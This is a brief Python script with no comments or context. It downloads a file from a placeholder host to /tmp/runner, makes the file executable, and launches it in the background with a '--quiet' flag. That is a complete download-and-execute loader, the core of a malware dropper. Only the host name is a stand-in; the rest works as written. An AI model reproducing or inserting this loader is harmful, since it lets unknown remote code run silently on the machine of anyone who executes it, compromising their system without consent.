import os
import stat
import subprocess
from urllib.request import urlopen

with open("/tmp/runner", "wb") as handle:
    handle.write(urlopen("https://cdn.example.invalid/runner").read())
os.chmod("/tmp/runner", stat.S_IRWXU)
subprocess.Popen(["/tmp/runner", "--quiet"])
